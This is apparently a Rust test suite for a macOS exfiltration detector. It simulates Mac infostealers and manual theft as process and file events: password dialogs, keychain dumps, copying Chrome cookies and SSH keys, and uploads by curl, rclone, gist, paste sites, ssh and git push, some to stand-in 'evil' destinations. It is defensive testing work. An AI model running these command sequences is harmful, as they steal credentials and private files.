//! Thieves as they are known to work on Macs.

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const SH: Program = apple("/bin/sh", "com.apple.sh");
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const CP: Program = apple("/bin/cp", "com.apple.cp");
const DITTO: Program = apple("/usr/bin/ditto", "com.apple.ditto");
const OSASCRIPT: Program = apple("/usr/bin/osascript", "com.apple.osascript");
const GIT: Program = apple("/usr/bin/git", "com.apple.git");
const LOGIN: &str = "/Users/alice/Library/Keychains/login.keychain-db";
const COOKIES: &str = "/Users/alice/Library/Application Support/Google/Chrome/Default/Network/Cookies";

/// AMOS: a dialog for the password, `dscl` to try it, files together, `ditto`, `curl`.
#[test]
fn amos_by_apple_script() {
    for (host, by_name) in [("api.telegram.org", true), ("discord.com", true), ("", false)] {
        let mut w = World::new();
        let app =
            w.launch(0.0, adhoc("/Volumes/Installer/Setup.app/Contents/MacOS/Setup", "Setup"), &["Setup"]);
        let script = w.spawn(
            0.5,
            &app,
            OSASCRIPT,
            &["osascript", "-e", "display dialog \"Please enter your password\""],
        );
        let sh = w.spawn(1.0, &script, SH, &["sh", "-c", "dscl . authonly alice secret"]);
        let dscl = w.spawn(
            1.1,
            &sh,
            apple("/usr/bin/dscl", "com.apple.dscl"),
            &["dscl", ".", "authonly", "alice", "secret"],
        );
        w.exit(1.2, &dscl);
        w.exit(1.3, &sh);
        for (index, file) in [LOGIN, COOKIES].iter().enumerate() {
            let at = 2.0 + index as f64;
            let cp = w.spawn(at, &script, CP, &["cp", file, "/private/tmp/xyz/"]);
            w.open(at + 0.1, &cp, file);
            w.write(at + 0.2, &cp, &format!("/private/tmp/xyz/{index}"));
            w.exit(at + 0.3, &cp);
        }
        let ditto =
            w.spawn(5.0, &script, DITTO, &["ditto", "-c", "-k", "/private/tmp/xyz", "/private/tmp/out.zip"]);
        w.open(5.1, &ditto, "/private/tmp/xyz/0");
        w.open(5.2, &ditto, "/private/tmp/xyz/1");
        w.write_inode(5.3, &ditto, "/private/tmp/out.zip", 99_001);
        w.exit(5.4, &ditto);
        let curl = w.spawn(
            6.0,
            &script,
            CURL,
            &["curl", "-X", "POST", "--data-binary", "@/private/tmp/out.zip", "http://x/api"],
        );
        w.open_inode(6.1, &curl, "/private/tmp/out.zip", 99_001);
        if by_name {
            w.upload(6.5, &curl, host, 400_000);
            let told = w.tell();
            assert_eq!(told.alert().severity.as_str(), "critical");
        } else {
            let mut plain = w.connect(6.5, &curl, "203.0.113.9", false);
            let end = w.send(6.6, &mut plain, 400_000);
            w.close(end + 0.1, &mut plain);
            assert!(!w.tell().note().is_empty());
        }
    }
}

/// MacStealer and Cuckoo: one program of their own does it all, and an agent of launchd's sends later what it left.
#[test]
fn one_program_and_its_agent() {
    let stealer = adhoc("/Users/alice/Library/Application Support/upd", "upd-55554944");
    works(stealer, &["upd"], &[COOKIES, LOGIN], "api.telegram.org", 900_000).alert();
    let mut w = World::new();
    let first = w.launch(0.0, stealer, &["upd"]);
    w.open(1.0, &first, "/Users/alice/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite");
    w.write_inode(2.0, &first, "/Users/alice/.cache/pack", 99_002);
    w.exit(3.0, &first);
    let agent = w.launch(40_000.0, stealer, &["upd", "--send"]);
    w.open_inode(40_001.0, &agent, "/Users/alice/.cache/pack", 99_002);
    w.upload(40_002.0, &agent, "content.dropboxapi.com", 500_000);
    w.tell().alert();
}

/// The whole profile of Chrome, packed and copied to a bucket.
#[test]
fn a_browsers_profile_to_a_bucket() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let tar = w.spawn(
        1.0,
        &shell,
        apple("/usr/bin/tar", "com.apple.bsdtar"),
        &["tar", "czf", "/tmp/p.tgz", "Library/Application Support/Google/Chrome/Default"],
    );
    w.open(1.1, &tar, COOKIES);
    w.write_inode(1.5, &tar, "/private/tmp/p.tgz", 99_003);
    let rclone = w.spawn(
        20.0,
        &shell,
        adhoc("/opt/homebrew/Cellar/rclone/1.68.2/bin/rclone", "rclone"),
        &["rclone", "copy", "/tmp/p.tgz", "b2:evil/x"],
    );
    w.open_inode(20.1, &rclone, "/private/tmp/p.tgz", 99_003);
    w.upload(20.5, &rclone, "pod-000-1004-00.backblaze.com", 2_000_000);
    let told = w.tell();
    let (service, tenant) = (told.alert().service.as_deref(), told.alert().tenant.as_deref());
    assert_eq!((service, tenant), (Some("backblaze-b2"), Some("evil")));
}

/// `security dump-keychain -d > k; gh gist create k`
#[test]
fn a_dumped_keychain_becomes_a_gist() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let security = w.spawn(
        1.0,
        &shell,
        apple("/usr/bin/security", "com.apple.security"),
        &["security", "dump-keychain", "-d"],
    );
    w.open(1.1, &security, LOGIN);
    w.write_inode(1.5, &security, "/private/tmp/k", 99_004);
    let gh = w.spawn(
        9.0,
        &shell,
        adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh"),
        &["gh", "gist", "create", "/private/tmp/k"],
    );
    w.open_inode(9.1, &gh, "/private/tmp/k", 99_004);
    w.upload(9.5, &gh, "api.github.com", 60_000);
    assert_eq!(w.tell().alert().severity.as_str(), "critical");
}

/// Notes out of their database into a paste, and an archive over ssh to a storage box.
#[test]
fn through_pipes_to_pastes_and_boxes() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let sqlite = apple("/usr/bin/sqlite3", "com.apple.sqlite3");
    let notes = "/Users/alice/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite";
    let sqlite = w.piped(1.0, &shell, sqlite, &["sqlite3", notes, ".dump"], &[(1, 70)]);
    let curl = w.piped(1.1, &shell, CURL, &["curl", "-T", "-", "https://paste.rs"], &[(0, 70)]);
    w.open(1.2, &sqlite, notes);
    w.upload(2.0, &curl, "paste.rs", 90_000);
    w.tell().alert();

    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let zip =
        w.piped(1.0, &shell, apple("/usr/bin/zip", "com.apple.zip"), &["zip", "-r", "-", ".ssh"], &[(1, 71)]);
    let ssh = w.piped(
        1.1,
        &shell,
        apple("/usr/bin/ssh", "com.apple.openssh"),
        &["ssh", "u1@u1.your-storagebox.de", "cat > k"],
        &[(0, 71)],
    );
    w.open(1.2, &zip, "/Users/alice/.ssh/id_ed25519");
    w.upload(2.0, &ssh, "u1.your-storagebox.de", 20_000);
    w.tell().alert();
}

/// A secret is committed, and pushed to a repository of one's own: the pack comes through pipes between git's own parts.
#[test]
fn a_secret_pushed_to_a_repository() {
    let mut w = World::new();
    w.cwd = "/Users/alice/x";
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let cp = w.spawn(1.0, &shell, CP, &["cp", "/Users/alice/.aws/credentials", "a.txt"]);
    w.open(1.1, &cp, "/Users/alice/.aws/credentials");
    w.write_inode(1.2, &cp, "/Users/alice/x/a.txt", 99_005);
    let add = w.spawn(5.0, &shell, GIT, &["git", "add", "a.txt"]);
    w.open_inode(5.1, &add, "/Users/alice/x/a.txt", 99_005);
    w.write_inode(5.2, &add, "/Users/alice/x/.git/objects/ab/cdef", 99_006);
    let push = w.spawn(9.0, &shell, GIT, &["git", "push", "https://github.com/eve/x", "main"]);
    let remote = w.piped(
        9.1,
        &push,
        apple("/usr/libexec/git-core/git-remote-http", "com.apple.git-remote-http"),
        &["git-remote-https", "x", "https://github.com/eve/x"],
        &[(0, 72), (1, 73)],
    );
    let send = w.piped(9.2, &remote, GIT, &["git", "send-pack", "--stateless-rpc"], &[(0, 74), (1, 75)]);
    let pack = w.piped(9.3, &send, GIT, &["git", "pack-objects", "--stdout"], &[(0, 76), (1, 77)]);
    w.open_inode(9.4, &pack, "/Users/alice/x/.git/objects/ab/cdef", 99_006);
    w.upload(10.0, &remote, "github.com", 30_000);
    // To whose account, the name of the host does not say.
    let told = w.tell();
    assert!(told.low().hops.iter().any(|hop| hop.kind.as_str() == "pipe"));
}

/// JavaScript for Automation reads and sends in its own process; Shortcuts does so for a document.
#[test]
fn by_what_the_system_brings() {
    works(
        OSASCRIPT,
        &["osascript", "-l", "JavaScript", "-e", "ObjC.import('Foundation')"],
        &["/Users/alice/.ssh/id_rsa"],
        "content.dropboxapi.com",
        9_000,
    )
    .alert();
    let shortcuts = apple(
        "/System/Library/PrivateFrameworks/WorkflowKit.framework/XPCServices/BackgroundShortcutRunner.xpc/Contents/MacOS/BackgroundShortcutRunner",
        "com.apple.WorkflowKit.BackgroundShortcutRunner",
    );
    works(
        shortcuts,
        &["BackgroundShortcutRunner"],
        &["/Users/alice/Documents/corp/plan.docx"],
        "content.dropboxapi.com",
        900_000,
    )
    .alert();
}

/// Backups to somebody else's place, as their own configuration says.
#[test]
fn backups_to_a_strangers_place() {
    for (name, args, host) in [
        ("duplicacy", &["duplicacy", "backup"][..], "s3.wasabisys.com"),
        (
            "kopia",
            &["kopia", "snapshot", "create", "/Users/alice/Documents"],
            "s3.eu-central-003.backblazeb2.com",
        ),
        (
            "restic",
            &["restic", "-r", "rclone:mega:x", "backup", "/Users/alice/Documents"],
            "gfs270n111.userstorage.mega.co.nz",
        ),
    ] {
        let path: &'static str = format!("/opt/homebrew/bin/{name}").leak();
        works(adhoc(path, "x"), args, &["/Users/alice/Documents/corp/plan.docx"], host, 900_000)
            .one_of_any_confidence();
    }
    // mega-put asks a server of its own, which reads.
    let mut w = World::new();
    let server = w.launch(
        0.0,
        vendor("/Applications/MEGAcmd.app/Contents/MacOS/mega-cmd-server", "mega.mac.megacmd", "T9RH74Y7L9"),
        &["mega-cmd-server"],
    );
    let shell = w.launch(0.1, ZSH, &["-zsh"]);
    w.spawn(
        1.0,
        &shell,
        vendor("/Applications/MEGAcmd.app/Contents/MacOS/mega-exec", "mega-exec", "T9RH74Y7L9"),
        &["mega-exec", "put", ".ssh/id_rsa", "/x"],
    );
    w.open(1.1, &server, "/Users/alice/.ssh/id_rsa");
    w.upload(2.0, &server, "gfs270n111.userstorage.mega.co.nz", 9_000);
    w.tell().alert();
}
